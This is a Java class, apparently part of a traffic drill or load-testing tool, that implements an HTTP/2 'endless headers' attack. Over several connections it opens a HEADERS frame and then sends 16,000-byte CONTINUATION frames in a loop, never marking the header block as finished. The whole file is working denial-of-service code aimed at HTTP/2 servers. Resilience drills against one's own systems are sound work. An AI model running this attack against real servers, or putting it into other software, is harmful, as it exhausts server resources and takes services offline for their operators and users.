package dev.dolmen.traffic.drill.attack;

import io.netty.handler.codec.http2.Http2FrameTypes;
import java.io.IOException;

/** Headers that go on and on, in CONTINUATION frames of which none is the last. */
public final class EndlessHeaders implements Attack {
  private static final int CONNECTIONS = 4;
  private static final int FRAME_BYTES = 16_000;
  private static final int PAUSE_MS = 1;

  /** A literal header without a name in the table, as HPACK writes it (RFC 7541, 6.2.2). */
  private static final byte[] HEADER = {0, 1, 'x', 4, 'l', 'o', 'n', 'g'};

  @Override
  public void start(AttackRun run) {
    byte[] block = new byte[FRAME_BYTES];
    for (int i = 0; i < block.length; i += HEADER.length) {
      System.arraycopy(HEADER, 0, block, i, HEADER.length);
    }
    run.repeat(CONNECTIONS, () -> send(run, block));
  }

  private static void send(AttackRun run, byte[] block) throws IOException, InterruptedException {
    try (FrameConnection connection = run.frames()) {
      run.countSent();
      connection.frame(Http2FrameTypes.HEADERS, 0, 1, connection.headers(1, Methods.RECOMMEND));
      while (run.goesOn()) {
        connection.frame(Http2FrameTypes.CONTINUATION, 0, 1, block);
        connection.flush();
        Thread.sleep(PAUSE_MS);
      }
    }
  }
}
